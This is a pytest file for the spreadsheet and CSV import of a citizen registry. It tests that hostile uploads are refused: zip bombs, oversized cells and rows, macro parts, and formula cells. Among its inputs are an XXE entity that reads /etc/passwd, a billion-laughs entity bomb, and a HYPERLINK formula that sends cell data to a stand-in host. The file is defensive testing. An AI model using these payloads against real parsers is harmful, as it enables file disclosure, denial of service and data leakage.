"""Hostile files: every limit refuses the file with a bilingual reason on its job, keeps nothing of it,
and holds a bounded amount of memory whatever the file claims."""

import io
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from cancuoc.imports import reading, services
from cancuoc.imports.models import ImportRowError
from cancuoc.imports.reading import Limits, UnreadableFile, read_file
from cancuoc.registry.models import Citizen

from . import hostile

CSV_HEADER = "Số định danh,Họ và tên,Ngày sinh,Giới tính,Mã xã thường trú\n"


def rows_of(path: Path, file_format: str, limits: Limits | None = None):
    _header_problems, rows = read_file(path, file_format, limits)
    return list(rows)


def refusal(path: Path, file_format: str, limits: Limits | None = None) -> str:
    with pytest.raises(UnreadableFile) as caught:
        rows_of(path, file_format, limits)
    error = caught.value
    assert error.message_vi and error.message_en and error.message_vi != error.message_en
    return error.code


def write(tmp_path: Path, data: bytes, name: str = "f.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def checked_job(tmp_path, officer, data: bytes, name: str = "dan-cu.xlsx"):
    path = write(tmp_path, data, name)
    return services.validate_job(services.create_job(officer, path, name))


# --- the bombs of the report ---------------------------------------------------------------------------


def test_a_shared_strings_part_declared_at_2_gib_is_refused_before_it_is_read(tmp_path, officers):
    data = hostile.package(declared={"xl/sharedStrings.xml": 2 << 30})
    assert len(data) < 4000
    job = checked_job(tmp_path, officers["thai_thuy"], data)
    assert (job.status, job.error_code) == ("failed", "file_decompressed_too_large")
    assert job.error_vi.startswith("Tệp bị từ chối") and job.error_en.startswith("File refused")
    assert "1024 MB" in job.error_en
    assert not ImportRowError.objects.filter(job=job).exists() and not Citizen.objects.exists()


def test_a_part_longer_than_its_declared_size_is_refused(tmp_path):
    big = hostile.shared_strings(["a" * 1_000_000])
    path = write(
        tmp_path, hostile.package({"xl/sharedStrings.xml": big}, declared={"xl/sharedStrings.xml": 100})
    )
    assert refusal(path, "xlsx") == "file_damaged_xlsx"


def test_decompressed_bytes_are_counted_while_reading_too(tmp_path):
    path = write(tmp_path, hostile.package())
    archive = reading._Archive(reading._opener(path), Limits())
    archive.budget = 100  # as if the parts read so far had used up all but 100 bytes
    with pytest.raises(UnreadableFile) as caught:
        list(archive.chunks("xl/worksheets/sheet1.xml"))
    archive.close()
    assert caught.value.code == "file_decompressed_too_large"


def test_millions_of_rows_written_compactly_are_refused_at_the_row_limit(tmp_path, officers, settings):
    settings.CANCUOC_IMPORT_MAX_ROWS = 1000
    bad = hostile.inline_row(3, ["1", "x", "x", "x", "x"]).replace('r="3"', "")
    rows = hostile.inline_row(1, hostile.HEADERS) + "".join(bad for _ in range(5000))
    data = hostile.package({"xl/worksheets/sheet1.xml": hostile.sheet(rows)})
    assert len(data) < 20_000
    job = checked_job(tmp_path, officers["thai_thuy"], data)
    assert (job.status, job.error_code) == ("failed", "file_too_many_rows")
    assert "1,000" in job.error_en
    # the rows checked before the limit was reached had errors: none of them is kept
    assert not ImportRowError.objects.filter(job=job).exists() and not Citizen.objects.exists()


def test_only_the_first_row_errors_are_stored_and_the_rest_counted(tmp_path, officers, settings, client):
    settings.CANCUOC_IMPORT_MAX_STORED_ERRORS = 10
    bad = [f"0340900001{i:02d},Trần Văn Bình,31/02/1990,X,12730" for i in range(40)]  # two problems each
    job = checked_job(tmp_path, officers["thai_thuy"], (CSV_HEADER + "\n".join(bad)).encode(), "dan-cu.csv")
    assert (job.status, job.rejected_rows) == ("validated", 40)
    assert ImportRowError.objects.filter(job=job).count() == 10 and job.unstored_errors == 70
    client.force_login(officers["thai_thuy"])
    page = client.get(f"/imports/{job.pk}/").content.decode()
    assert "Only the first 10 problems are stored; 70 more were counted" in page
    assert "Chỉ lưu 10 lỗi đầu tiên; 70 lỗi khác" in page
    report = client.get(f"/imports/{job.pk}/errors.csv").content.decode()
    assert "70 more were counted" in report
    job = services.apply_job(job)
    assert ImportRowError.objects.filter(job=job).count() == 10 and job.unstored_errors == 70


def test_a_huge_cell_is_a_row_problem_read_in_bounded_memory(tmp_path):
    huge = hostile.shared_strings(["Thôn " + "x" * 20_000_000])
    row = '<row r="2">' + "".join(
        f'<c r="{chr(65 + i)}2" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(hostile.ROW[:5])
    ) + '<c r="F2" t="s"><v>0</v></c></row>'  # fmt: skip
    sheet = hostile.sheet(hostile.inline_row(1, hostile.HEADERS) + row)
    path = write(tmp_path, hostile.package({"xl/sharedStrings.xml": huge, "xl/worksheets/sheet1.xml": sheet}))
    tracemalloc.start()
    try:
        rows = rows_of(path, "xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [(p.field, p.code) for p in rows[0].problems] == [("permanent_address", "too_long")]
    assert rows[0].problems[0].message_en == "Cell too long (more than 2,000 characters)"
    assert peak < 4_000_000, peak  # openpyxl would hold the 20 MB string (and more)


def test_an_oversized_xml_tag_is_refused(tmp_path):
    rows = hostile.inline_row(1, hostile.HEADERS) + f'<row r="2" spans="{"1" * 3_000_000}"></row>'
    path = write(tmp_path, hostile.package({"xl/worksheets/sheet1.xml": hostile.sheet(rows)}))
    assert refusal(path, "xlsx") == "file_xml_token_too_large"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # laughs
        '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>',  # external entity
    ],
)
def test_doctype_and_entities_are_refused(tmp_path, doctype):
    strings = f'<?xml version="1.0"?>{doctype}<sst xmlns="{hostile.MAIN}"><si><t>&b;</t></si></sst>'
    path = write(tmp_path, hostile.package({"xl/sharedStrings.xml": strings.encode()}))
    assert refusal(path, "xlsx") == "file_xml_forbidden"


@pytest.mark.parametrize(
    "part",
    ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin", "evil.sh"],
)
def test_parts_a_data_workbook_does_not_need_are_refused(tmp_path, part):
    path = write(tmp_path, hostile.package({part: b"x"}))
    assert refusal(path, "xlsx") == "file_unexpected_part"


def test_a_cell_beyond_the_last_excel_column_is_refused(tmp_path):
    rows = hostile.inline_row(1, hostile.HEADERS) + '<row r="2"><c r="XFE2"><v>1</v></c></row>'
    path = write(tmp_path, hostile.package({"xl/worksheets/sheet1.xml": hostile.sheet(rows)}))
    assert refusal(path, "xlsx") == "file_too_many_columns"


def test_a_workbook_of_our_own_reader_reads_like_before(tmp_path):
    path = write(tmp_path, hostile.package())
    (row,) = rows_of(path, "xlsx")
    assert (row.line, row.values["id_number"], row.values["permanent_address"], row.problems) == (
        2,
        "034090000001",
        "Thôn 1",
        [],
    )


# --- CSV -----------------------------------------------------------------------------------------------


def test_a_csv_line_over_the_limit_is_refused(tmp_path):
    path = write(tmp_path, (CSV_HEADER + "1," + "x" * 200_000 + "\n").encode(), "f.csv")
    assert refusal(path, "csv", Limits(max_line_chars=100_000)) == "file_line_too_long"


def test_a_csv_line_of_millions_of_empty_cells_is_refused(tmp_path):
    path = write(tmp_path, (CSV_HEADER + "," * 5_000_000 + "\n").encode(), "f.csv")
    assert refusal(path, "csv") == "file_line_too_long"


def test_csv_rows_over_the_limit_are_refused(tmp_path):
    path = write(tmp_path, (CSV_HEADER + "1,a,b,c,d\n" * 50).encode(), "f.csv")
    assert refusal(path, "csv", Limits(max_rows=49)) == "file_too_many_rows"
    assert len(rows_of(path, "csv", Limits(max_rows=50))) == 50


def test_a_csv_cell_over_the_limit_is_a_row_problem(tmp_path):
    path = write(
        tmp_path, (CSV_HEADER + "034090000001,A,01/01/1990,Nam," + "1" * 3000 + "\n").encode(), "f.csv"
    )
    (row,) = rows_of(path, "csv")
    assert [(p.field, p.code) for p in row.problems] == [("permanent_unit_code", "too_long")]


# --- formulas ------------------------------------------------------------------------------------------


def _workbook_with(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_formula_cells_are_refused_with_a_row_problem_naming_the_cell(tmp_path, officers):
    header = ["STT", "Số định danh", "Họ và tên", "Ngày sinh", "Giới tính", "Mã xã thường trú", "Dân tộc"]
    data = _workbook_with([
        header,
        ["=ROW()-1", "034090000001", "Nguyễn Văn An", "15/03/1990", "Nam", "12730", "Kinh"],
        ["=ROW()-1", "034090000002", "Nguyễn Văn Bình", "15/03/1990", "Nam", "12730", '=HYPERLINK("http://x/?"&A1,"Xem")'],
        ["=ROW()-1", "=1+2", "Nguyễn Văn Cường", "15/03/1990", "Nam", "12730", "Kinh"],
        ["=ROW()-1"],  # a running number dragged below the data is not a row
    ])  # fmt: skip
    assert b"<f>" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    job = checked_job(tmp_path, officers["thai_thuy"], data)
    assert (job.status, job.total_rows, job.valid_rows) == ("validated", 3, 1)
    found = [(e.line, e.column, e.code, e.message_vi, e.message_en) for e in job.row_errors.all()]
    assert found == [
        (3, "ethnicity", "formula_cell", "Ô G3 chứa công thức, không được nhập; hãy dán giá trị (Paste Values)",
         "Cell G3 holds a formula, which is not imported; paste values instead"),
        (4, "id_number", "formula_cell", "Ô B4 chứa công thức, không được nhập; hãy dán giá trị (Paste Values)",
         "Cell B4 holds a formula, which is not imported; paste values instead"),
        (4, "id_number", "required", "Thiếu số định danh cá nhân", "Personal ID number is missing"),
    ]  # fmt: skip


def test_a_formula_in_the_header_row_refuses_the_file(tmp_path):
    data = _workbook_with([["Số định danh", '="Họ và tên"', "Ngày sinh", "Giới tính", "Mã xã thường trú"]])
    path = write(tmp_path, data)
    with pytest.raises(UnreadableFile) as caught:
        rows_of(path, "xlsx")
    assert caught.value.code == "file_header_formula" and "B1" in caught.value.message_en
